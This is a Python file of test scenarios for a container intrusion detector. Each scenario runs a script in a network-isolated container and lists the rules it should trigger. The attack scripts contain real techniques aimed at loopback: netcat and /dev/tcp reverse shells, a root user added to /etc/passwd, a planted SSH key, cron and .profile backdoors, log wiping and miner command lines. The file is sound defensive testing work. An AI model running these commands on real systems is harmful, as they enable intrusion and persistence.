"""The scenarios: each a real container that does one thing, and the rules it must raise (or none).

`expect` names built-in rules by their file stem and detectors by their key.
Attack scenarios may raise more than they expect (a root container is also "run
as root"); benign scenarios must raise nothing at all. Every container runs
with network mode `none`: listeners, scans and "pools" stay on its own loopback.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Any

# A well-behaved container: not root, limited, from a pinned tag. Benign ones all are.
CALM: dict[str, Any] = {"user": "1000", "mem_limit": "64m", "nano_cpus": 1_000_000_000, "pids_limit": 64}
HOLD = "sleep 120"  # keep the container alive while the suite watches


@dataclass(frozen=True)
class Scenario:
    name: str
    script: str  # run by `sh -c` as the container's command
    expect: frozenset[str] = frozenset()
    attack: bool = True
    run: dict[str, Any] = field(default_factory=lambda: dict(CALM))
    image: str = "base"  # "base", "tools" (with /app and memfd-exec) or "latest"
    # run from the image under a name of its own: the anomaly model (one per image name) learns only this workload
    own_image: bool = False
    execs: tuple[dict[str, Any], ...] = ()  # docker exec after `exec_delay` s: {"cmd": [...], "user": .., "tty": .., "privileged": ..}
    http_requests: int = 0  # GET / on 127.0.0.1:8080 inside the container's network namespace, from the host

    @property
    def slug(self) -> str:
        return "".join(c if c.isalnum() else "-" for c in self.name.lower()).strip("-")[:60]

    @property
    def kind(self) -> str:
        return "attack" if self.attack else "benign"


def _s(name: str, script: str, *expect: str, **kwargs) -> Scenario:
    return Scenario(name, script, frozenset(expect), **kwargs)


def _benign(name: str, script: str, **kwargs) -> Scenario:
    return Scenario(name, script, frozenset(), attack=False, own_image=True, **kwargs)


ROOT: dict[str, Any] = {}  # as the image says: root, no limits
CGI = ("mkdir -p /tmp/www/cgi-bin && printf '#!/bin/sh\\necho Content-Type: text/plain; echo; id; sleep 60\\n'"
       " > /tmp/www/cgi-bin/run.cgi && chmod +x /tmp/www/cgi-bin/run.cgi")

SCENARIOS: list[Scenario] = [
    # ---- processes
    _s("network tool fetches a URL", f"nc -l -p 8080 >/dev/null & sleep 2; wget -q -O /dev/null http://127.0.0.1:8080/x & {HOLD}",
       "proc_network_tool"),
    _s("netcat bind shell (-e)", f"sleep 2; nc -ll -p 4444 -e /bin/sh & {HOLD}", "proc_netcat_exec"),
    _s("reverse shell over a socket", f"sleep 300 | nc -l -p 4444 >/dev/null & sleep 2; nc 127.0.0.1 4444 -e /bin/sh & {HOLD}",
       "proc_shell_socket_stdio"),
    _s("bash /dev/tcp reverse shell command", f"sleep 2; sh -c 'sleep 60; : bash -i >& /dev/tcp/127.0.0.1/4444 0>&1' & {HOLD}",
       "proc_dev_tcp_shell"),
    _s("web server spawns a shell (CGI)", f"{CGI}; httpd -f -p 8080 -h /tmp/www & sleep 2; "
       f"wget -q -O /dev/null http://127.0.0.1:8080/cgi-bin/run.cgi & {HOLD}", "proc_shell_from_server"),
    _s("drop and execute a binary", f"sleep 2; mkdir -p /opt/x && cp /bin/busybox /opt/x/busybox && /opt/x/busybox sleep 60 & {HOLD}",
       "proc_dropped_executable", run=ROOT),
    _s("execute from /tmp", f"sleep 2; cp /bin/busybox /tmp/busybox && /tmp/busybox sleep 60 & {HOLD}", "proc_exec_from_tmp"),
    _s("fileless execution from memfd", f"sleep 2; /usr/local/bin/memfd-exec /bin/busybox sleep 60 & {HOLD}",
       "proc_fileless_memfd", image="tools"),
    _s("miner command line with a stratum URL", f"sleep 2; sh -c 'sleep 60' xmrig --url stratum+tcp://127.0.0.1:3333 & {HOLD}",
       "proc_crypto_miner"),
    _s("package manager inside the container", f"sleep 2; mkfifo /tmp/update.rpm; rpm -qp /tmp/update.rpm & {HOLD}", "proc_package_manager"),
    # ---- exec sessions
    _s("terminal shell through docker exec", HOLD, "exec_terminal_shell", execs=({"cmd": ["sh", "-c", "sleep 1"], "tty": True},)),
    _s("exec as root", HOLD, "exec_as_root", execs=({"cmd": ["id"], "user": "root"},)),
    _s("privileged exec", HOLD, "exec_privileged", execs=({"cmd": ["id"], "privileged": True},)),
    _s("package manager through docker exec", HOLD, "exec_package_manager",
       execs=({"cmd": ["sh", "-c", "apk add curl || true"]},)),
    # ---- files
    _s("write below /etc and /bin", f"sleep 2; echo 'x:x:0:0::/:/bin/sh' >> /etc/passwd; cp /bin/busybox /bin/.hidden; {HOLD}",
       "file_write_system_dirs", run=ROOT),
    _s("ssh key planted", f"sleep 2; mkdir -p /root/.ssh && echo 'ssh-ed25519 AAAA attacker' >> /root/.ssh/authorized_keys; {HOLD}",
       "file_ssh_authorized_keys", run=ROOT),
    _s("cron job added", f"sleep 2; mkdir -p /etc/crontabs && echo '* * * * * nc 127.0.0.1 4444 -e /bin/sh' > /etc/crontabs/root; {HOLD}",
       "file_cron_modified", run=ROOT),
    _s("shell rc backdoored", f"sleep 2; echo 'nc 127.0.0.1 4444 -e /bin/sh &' >> /root/.profile; {HOLD}",
       "file_shell_rc_modified", run=ROOT),
    _s("symlink to /etc/shadow", f"sleep 2; ln -s /etc/shadow /tmp/.cache-x; {HOLD}", "file_symlink_sensitive"),
    _s("log cleared", f"mkdir -p /var/log && echo 'login root' > /var/log/auth.log; sleep 3; : > /var/log/auth.log; "
       f"sleep 1; rm /var/log/auth.log; {HOLD}", "file_log_clearing", run=ROOT),
    # ---- logs
    _s("port scanner output in the log", f"sleep 1; echo 'Starting Nmap 7.94'; echo 'Nmap scan report for 127.0.0.1'; {HOLD}",
       "log_port_scanner"),
    _s("miner output in the log", f"sleep 1; echo 'use pool stratum+tcp://127.0.0.1:3333 xmrig/6.21'; {HOLD}", "log_crypto_miner"),
    # ---- container configuration (judged at start)
    _s("misconfigured start", HOLD, "container_dangerous_capability", "container_docker_socket", "container_sensitive_mount",
       "container_host_namespace", "container_unconfined_profile", "container_as_root", "container_no_limits",
       run={"cap_add": ["SYS_ADMIN"], "pid_mode": "host", "security_opt": ["seccomp=unconfined"],
            "volumes": {"/var/run/docker.sock": {"bind": "/var/run/docker.sock", "mode": "ro"},
                        "/etc": {"bind": "/host-etc", "mode": "ro"}}}),
    _s("unpinned :latest image", HOLD, "container_latest_image", image="latest"),
    _s("privileged container", HOLD, "container_privileged", run={**CALM, "privileged": True}),
    # ---- stateful detectors
    _s("port scan of 20 ports", "for p in $(seq 9000 9019); do sleep 300 | nc -l -p $p >/dev/null & done; sleep 2; "
       f"for p in $(seq 9000 9019); do sleep 300 | nc 127.0.0.1 $p >/dev/null & done; {HOLD}", "port_scan",
       run={**CALM, "pids_limit": 256}),
    _s("crypto-mining: pool connection and CPU", "sleep 300 | nc -l -p 3333 >/dev/null & sleep 1; sleep 300 | nc 127.0.0.1 3333 >/dev/null & "
       f"sleep 1; while :; do :; done & {HOLD}", "crypto_mining"),
    _s("resource anomaly after a calm baseline", "sleep 15; for i in 1 2 3 4 5 6 7 8; do (while :; do :; done) & done; "
       f"{HOLD}", "resource_anomaly", own_image=True, run={**CALM, "nano_cpus": 2_000_000_000}),
    # ---- benign
    _benign("web server serving and logging requests", "mkdir -p /tmp/www && echo hello > /tmp/www/index.html && "
       f"httpd -f -vv -p 8080 -h /tmp/www & {HOLD}", http_requests=20),
    _benign("job writing its data directory", "mkdir -p /tmp/data; i=0; while [ $i -lt 20 ]; do echo \"row $i\" >> /tmp/data/out.csv; "
       f"i=$((i+1)); sleep 0.2; done; {HOLD}"),
    _benign("build step unpacking and compiling under /app", "cd /app && mkdir -p src && echo 'int main(void){return 0;}' > src/main.c"
       " && tar czf /tmp/src.tgz src && rm -rf src && tar xzf /tmp/src.tgz && mkdir -p build && cat src/main.c > build/main.o"
       f" && cp /bin/busybox build/app && chmod +x build/app; {HOLD}", image="tools"),
    _benign("health check exec", HOLD,
       run={**CALM, "healthcheck": {"test": ["CMD", "true"], "interval": 1_000_000_000, "timeout": 1_000_000_000}}),
    _benign("chatty logger", "i=0; while [ $i -lt 2000 ]; do echo \"$(date) INFO request $i served in 3 ms\"; i=$((i+1)); done; "
       f"{HOLD}"),
    _benign("short CPU burst at start-up", f"i=0; while [ $i -lt 200000 ]; do i=$((i+1)); done; {HOLD}"),
]
